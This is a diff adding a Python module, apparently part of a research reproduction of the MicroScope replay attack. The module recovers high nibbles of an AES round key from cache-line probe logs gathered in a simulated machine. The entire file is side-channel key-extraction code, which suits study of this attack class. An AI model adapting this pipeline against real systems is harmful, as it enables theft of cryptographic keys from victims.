@@ -1,0 +1,191 @@
+"""AES key recovery driven end-to-end by MicroScope's own probes.
+
+The §4.4 attack extracts, per fault window, the set of Td cache lines
+touched.  This module turns those *attack-observed* windows into
+per-statement attributions for middle round 1, and the attributions
+into key material:
+
+* each round-1 lookup index is ``ct_byte ^ k_byte`` where ``k`` is the
+  first decryption round key (= the last encryption round key);
+* a 64-byte line fixes the index's high nibble, so every attributed
+  (statement, table) line yields a candidate set for one key byte's
+  high nibble;
+* candidate sets from decryptions of *different ciphertexts* intersect
+  down to the true nibble.
+
+For AES-128 the last round key determines the master key, so combined
+with a sub-line channel (entry granularity — MemJam-style, which
+MicroScope can equally denoise) the same pipeline would complete the
+key; at pure line granularity it provably yields the 64 high-nibble
+bits, which is what this module demonstrates *from the attack alone*.
+
+Window algebra (sites as the §4.4 stepper orders them; all windows are
+majority-combined primed replays):
+
+========================  ==========================================
+site                      content
+========================  ==========================================
+``td0`` site *s* (t_s)    Td1-3 lookups of statements s..3
+``rk`` site *s* (rk[4+s]) all-table lookups of statements s+1..3
+replay-0 of ``rk`` site 0 t0's architectural lookups + the window
+========================  ==========================================
+
+so, per table::
+
+    stmt3  = W_rk[2]
+    stmt2  = W_rk[1] - W_rk[2]          (fallback: collision set)
+    stmt1  = W_rk[0] - W_rk[1]
+    stmt0  = W_td0[0] - W_rk[0]         (tables 1-3)
+    stmt0  = replay0(rk[0])[Td0] - W_rk[0][Td0]   (table 0)
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import Dict, List, Optional, Sequence, Set, Tuple
+
+from repro.core.analysis import majority_lines, round1_byte_index
+from repro.core.attacks.aes_cache import AESCacheAttack, ProbeRecord
+from repro.crypto.aes import expand_decrypt_key, first_round_accesses
+
+#: Attribution key: (statement, table).
+StmtTable = Tuple[int, int]
+
+
+@dataclass
+class Round1Attribution:
+    """Per (statement, table): the candidate line set the attack
+    derived for middle round 1 of one decryption."""
+
+    ciphertext: bytes
+    candidates: Dict[StmtTable, Set[int]]
+
+    def accuracy_against(self, key: bytes) -> float:
+        """Fraction of (statement, table) slots whose candidate set
+        contains the true line (validation metric)."""
+        truth = {(a.statement, a.table): a.line
+                 for a in first_round_accesses(key, self.ciphertext)}
+        good = sum(1 for slot, lines in self.candidates.items()
+                   if truth[slot] in lines)
+        return good / max(len(self.candidates), 1)
+
+
+def attribute_round1(probes: Sequence[ProbeRecord], ciphertext: bytes,
+                     hit_threshold: int) -> Round1Attribution:
+    """Derive per-statement round-1 line candidates from the stepper's
+    probe log (first four rk sites + interleaved td0 sites)."""
+    def window(kind: str, ordinal: int, table: int) -> Set[int]:
+        """Majority-combined *primed* replays of the ordinal-th fault
+        site of the given kind."""
+        steps = sorted({p.step for p in probes if p.kind == kind})
+        if ordinal >= len(steps):
+            return set()
+        step = steps[ordinal]
+        lines = [p.hit_lines(table, hit_threshold) for p in probes
+                 if p.kind == kind and p.step == step and p.replay > 0]
+        return set(majority_lines(lines)) if lines else set()
+
+    def replay0(kind: str, ordinal: int, table: int) -> Set[int]:
+        steps = sorted({p.step for p in probes if p.kind == kind})
+        if ordinal >= len(steps):
+            return set()
+        step = steps[ordinal]
+        for probe in probes:
+            if probe.kind == kind and probe.step == step \
+                    and probe.replay == 0:
+                return set(probe.hit_lines(table, hit_threshold))
+        return set()
+
+    candidates: Dict[StmtTable, Set[int]] = {}
+    for table in range(4):
+        w_rk = [window("rk", s, table) for s in range(3)]
+        candidates[(3, table)] = set(w_rk[2])
+        for stmt, (current, nxt) in ((2, (w_rk[1], w_rk[2])),
+                                     (1, (w_rk[0], w_rk[1]))):
+            gone = current - nxt
+            candidates[(stmt, table)] = gone if gone else set(current)
+        if table == 0:
+            arch = replay0("rk", 0, 0)
+            gone = arch - w_rk[0]
+            candidates[(0, 0)] = gone if gone else arch
+        else:
+            w_td0 = window("td0", 0, table)
+            gone = w_td0 - w_rk[0]
+            candidates[(0, table)] = gone if gone else w_td0
+    return Round1Attribution(ciphertext=ciphertext,
+                             candidates=candidates)
+
+
+def nibble_candidates(attribution: Round1Attribution
+                      ) -> Dict[int, Set[int]]:
+    """Candidate high nibbles per round-key byte from one block."""
+    out: Dict[int, Set[int]] = {}
+    for (stmt, table), lines in attribution.candidates.items():
+        byte_index = round1_byte_index(stmt, table)
+        ct_high = attribution.ciphertext[byte_index] >> 4
+        nibbles = {ct_high ^ line for line in lines}
+        if byte_index in out:
+            out[byte_index] &= nibbles
+        else:
+            out[byte_index] = nibbles
+    return out
+
+
+@dataclass
+class KeyRecoveryResult:
+    attributions: List[Round1Attribution]
+    #: Final per-byte high-nibble candidate sets after intersection.
+    nibble_sets: Dict[int, Set[int]]
+    recovered: Dict[int, int]
+    truth: bytes
+
+    @property
+    def bytes_recovered(self) -> int:
+        return len(self.recovered)
+
+    @property
+    def all_correct(self) -> bool:
+        return all(self.truth[i] >> 4 == nibble
+                   for i, nibble in self.recovered.items())
+
+    @property
+    def bits_recovered(self) -> int:
+        return 4 * len(self.recovered)
+
+
+@dataclass
+class AESKeyRecoveryAttack:
+    """Run the §4.4 stepper on several blocks, attribute round 1 from
+    the probe logs, and recover the round key's high nibbles."""
+
+    key: bytes
+    replays_per_site: int = 3
+
+    def run(self, ciphertexts: Sequence[bytes]) -> KeyRecoveryResult:
+        attributions: List[Round1Attribution] = []
+        combined: Dict[int, Set[int]] = {}
+        for ciphertext in ciphertexts:
+            attack = AESCacheAttack(self.key, ciphertext,
+                                    replays_per_site=self.replays_per_site)
+            rep, _victim, stepper = attack._setup(
+                prime_before_first=True)
+            stepper.stop_after_rk_sites = 4   # round 1 only
+            rep.machine.run(60_000_000, until=lambda _m: stepper.done)
+            threshold = attack.hit_threshold(rep)
+            attribution = attribute_round1(stepper.probes, ciphertext,
+                                           threshold)
+            attributions.append(attribution)
+            for byte_index, nibbles in nibble_candidates(
+                    attribution).items():
+                if byte_index in combined:
+                    combined[byte_index] &= nibbles
+                else:
+                    combined[byte_index] = set(nibbles)
+        recovered = {index: next(iter(nibbles))
+                     for index, nibbles in combined.items()
+                     if len(nibbles) == 1}
+        rk = expand_decrypt_key(self.key)
+        truth = b"".join(w.to_bytes(4, "big") for w in rk[0:4])
+        return KeyRecoveryResult(attributions=attributions,
+                                 nibble_sets=combined,
+                                 recovered=recovered, truth=truth)
